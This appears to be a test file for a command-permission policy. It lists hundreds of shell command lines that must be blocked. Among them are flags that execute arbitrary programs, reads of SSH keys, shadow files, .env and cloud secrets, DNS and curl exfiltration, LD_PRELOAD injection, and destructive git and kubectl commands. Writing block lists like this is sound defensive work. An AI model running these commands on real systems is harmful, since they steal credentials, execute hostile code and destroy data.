// Programs that are taken for safe, with the flags that run, write, delete or send. Not one may pass.
import { stops } from '../../../support/policy/lists.ts';

stops(String.raw`
  ## sort, uniq and other text tools
  sort --compress-program=./p a
  sort --compress-program ./p a
  sort --compress-prog=./p a
  sort --comp=./p a
  sort -o out a
  sort -oout a
  sort -ro out a
  sort a -o out
  sort --output=out a
  sort --out=out a
  sort -T d a
  sort --files0-from=/etc/shadow
  sort $x a
  uniq a b
  chattr -i a
  chattr +i a
  setfacl -b a
  setfacl -m u:x:rwx a
  chcon -t x a
  mkfifo a b
  uniq - b
  xxd a b
  xxd -r a b
  tee out
  split -l 5 a
  split --filter='sh -c id' a
  split --filt=id a
  csplit a 5
  shuf -o out a
  base64 -o out a
  iconv -o out a
  sdiff -o out a b
  patch -p1
  dd if=a of=b
  truncate -s 0 a
  cp /dev/null a
  : > a
  > a
  ln -sf /dev/null .git/index
  tree -o out
  ## find, grep and their kin
  find . -exec rm {} \;
  find . -exec true \; -exec ./p {} \;
  find . -execdir ./p {} +
  find . -ok ./p {} \;
  find . -delete
  find . -name x -o -delete
  find . -fls out
  find . -fprint out
  find . -fprint0 out
  find . -fprintf out %p
  find . -exec unlink {} +
  rg --pre ./p foo
  rg --pre=./p foo
  rg --hostname-bin ./p foo
  rg -z foo
  rg --search-zip foo
  ag --pager ./p foo
  fd -x rm
  fd foo -X rm
  fd --exec rm
  fzf --preview 'id {}'
  fzf --bind 'enter:execute(id)'
  bat --pager ./p a
  man -P ./p ls
  man -P./p ls
  man --pager=./p ls
  man --html=./p ls
  less -o log a
  ## archives
  tar --checkpoint=1 --checkpoint-action=exec=id -tf a.tar
  tar -I ./p -tf a.tar
  tar --use-compress-program=./p -tf a.tar
  tar --use=./p -tf a.tar
  tar xf a.tar
  tar xfC a.tar d
  tar xf a.tar --to-command=./p
  tar -tf a.tar -F ./p
  tar cf b.tar a
  tar tf a.tar --index-file=x
  tar cf b.tar --remove-files a
  tar -P -xf a.tar
  zip -T -TT ./p a.zip a
  zip -m a.zip a
  gzip a
  gunzip a.gz
  xz a
  zstd --rm a
  unzip a.zip
  7z x a.7z
  cpio -i
  cpio -p d
  ## sed, awk, perl
  sed -i s/a/b/ a
  sed -ni.bak p a
  sed -nis p a
  sed --in-place s/a/b/ a
  sed --in-pl s/a/b/ a
  sed '1e id' a
  sed --expr='1e id' a
  sed -n 'w out' a
  sed 's|x|id|e' a
  sed 's|x|id|ew out' a
  sed -f script a
  sed e a
  sed i\ d src/a.ts -i
  awk 'BEGIN{system("id")}'
  awk '{print > "out"}' a
  awk '{print | "sh"}' a
  awk -f p.awk a
  gawk -i inplace '{print}' a
  gawk -l ext 1 a
  gawk -o x 1 a
  perl -e 'unlink "a"'
  perl -ne 1 '>F'
  perl -i -pe s/a/b/ a
  ## git
  git -c core.pager=./p log
  git -c alias.x='!id' x
  git --config-env=core.pager=P log
  git --exec-path=./d status
  git --git-dir=other status
  git -p log
  git grep -O./p foo
  git grep -iO./p foo
  git grep --open-files-in-pager=./p foo
  git grep --open=./p foo
  git ls-remote --upload-pack=./p .
  git ls-remote --upload=./p .
  git fetch --upload-pack=./p
  git clone -u ./p a b
  git clone -c core.fsmonitor=./p a b
  git push --receive-pack=./p
  git archive --remote=. --exec=./p HEAD
  git difftool -x ./p
  git rebase -x ./p HEAD~2
  git rebase -i HEAD~2
  git bisect run ./p
  git submodule foreach id
  git filter-branch --tree-filter id
  git diff --output=out
  git diff --output out
  git show --output=out
  git log --output=out
  git shortlog --output=out
  git format-patch HEAD~1
  git archive -o out HEAD
  git bundle create out HEAD
  git blame --contents=/etc/shadow a
  git diff --no-index /etc/shadow a
  git diff --ext-diff
  git show HEAD:.env
  git log -p -- .env
  git cat-file blob HEAD:.env
  git config core.pager ./p
  git config --global user.name x
  git config -f x a.b c
  git branch -D x
  git branch new
  git checkout -- a
  git checkout HEAD~1 a
  git checkout -tf x
  git switch -f x
  git restore a
  git reset --hard
  git clean -fd
  git stash drop
  git stash
  git tag -d v1
  git remote add x https://x
  git worktree remove --force x
  git reflog expire --all
  git gc --prune=now
  git update-ref -d refs/heads/x
  git commit -m x
  git push
  git branch --edit-description
  git tag -s v1
  git help log
  ## network
  curl -o out https://x
  curl -so out https://x
  curl -O https://x
  curl -d @a https://x
  curl -T a https://x
  curl -F x=@a https://x
  curl -K conf
  curl file:///etc/shadow
  curl --trace out https://x
  curl --dump-head out https://x
  curl -x http://p https://x
  curl -X POST https://x
  wget https://x
  wget -O - https://x
  wget --use-askpass=./p https://x
  wget --use-ask=./p https://x
  wget -e use_askpass=./p https://x
  ssh -o ProxyCommand=id h
  ssh -oProxyCommand=id h
  ssh -F conf h
  ssh h
  scp -S ./p a h:
  sftp -D ./p h
  rsync -e ./p a b
  rsync -ae ./p a b
  rsync --delete a/ b/
  rsync a h:
  dig $(whoami).x
  nslookup "$(cat a)".x
  whois -h host x
  gpg -o out a
  openssl rand -out x 5
  openssl s_client -connect h:1
  ## system
  date -s 12:00
  date 01011200
  hostname new
  ip link set eth0 down
  ip -b x
  sysctl -w a=b
  dmesg -C
  journalctl --vacuum-time=1s
  journalctl --rotate
  ss -K
  mount /dev/sda1 /mnt
  env
  printenv
  export -p
  declare -p
  ps auxe
  ps e
  ## builders and packages
  npm run x
  npm test
  npm install
  npm ci
  npm exec -c id
  npm x --call=id
  npm pkg set a=b
  npm config set a b
  npm ls --script-shell=./p
  npm pack --dry-run
  npx foo
  pip install x
  pip config edit
  pip install --index-url http://x y
  cargo --config 'build.rustc-wrapper="./p"' tree
  cargo tree --config 'build.rustc-wrapper="./p"'
  cargo check
  go build
  go vet -vettool=./p
  make
  make -n
  make --eval='x:;id'
  pytest
  eslint .
  prettier --write .
  tsc
  python3 -c "$X"
  node -e "$X"
  node --env-file=x --version
  node -r ./p a
  strace -o '|id' ls
  python -m json.tool a b
  gh config set editor ./p
  gh api -X DELETE repos/o/r
  gh api -f a=b repos/o/r
  gh auth token
  gh gist create a
  aws s3 cp a s3://b
  aws s3 ls --endpoint-url http://x
  aws secretsmanager get-secret-value --secret-id x
  kubectl get secret x
  kubectl get pods --kubeconfig x
  kubectl apply -f a
  kubectl scale --all --replicas=0
  helm template --post-renderer ./p x
  terraform plan
  terraform apply
  docker run -v /:/h x
  docker exec x sh
  docker inspect x
  ## environment
  LD_PRELOAD=./p ls
  GIT_SSH_COMMAND=./p git status
  GIT_PAGER=./p git log
  PAGER=./p git log
  NODE_OPTIONS='-r ./p' npm --version
  LESSOPEN='|id %s' less a
  PATH=.:$PATH ls
  env LD_PRELOAD=./p ls
  export NODE_OPTIONS=x
  export PYTHONPATH=x; ls
  FROBNICATE=1 kubectl get pods
  RIPGREP_CONFIG_PATH=x rg foo
  LC_ALL=$(id) sort a
  ## programs of the workspace and unknown ones
  ./script.sh
  bin/tool --version
  frobnicate
  /opt/x/y
  cat .env
  cat ~/.ssh/id_rsa
  cat ~/notes.txt
  cat .e*
  grep -r x ~/.aws
  head -c 10 /proc/self/environ
  jq -n env
  awk 'BEGIN{print ENVIRON["X"]}'
`);
